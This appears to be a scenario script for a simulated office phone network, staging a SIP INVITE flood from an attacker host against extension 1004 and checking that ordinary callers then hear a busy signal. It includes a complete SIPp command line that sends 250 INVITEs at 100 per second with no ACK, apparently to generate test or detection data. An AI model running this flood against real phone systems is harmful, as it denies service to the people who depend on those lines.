# SIPp sends 100 INVITEs a second for a phone that exists, and no ACK; whoever calls it meanwhile
# hears that it is busy.
open_office
add_attacker flooder 203.0.113.44
start_office_capture
keep_alive 9
office_day 108 60 20-34
at 20 attack A1 invite_flood flooder 5060 "SIPp sends 250 INVITEs, 100 a second, for 1004, and no ACK." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/flood-invite.xml" -nostdin -default_behaviors none \
    -i 203.0.113.44 -mi 203.0.113.44 -p 5060 -s 1004 -r 100 -m 250 192.0.2.1:5060
for n in 1 2 3; do at "21.$((n * 3 - 2))" incoming "507$n" 1004 05552010$n 1.0s; done
play
wait_for A1
close_office
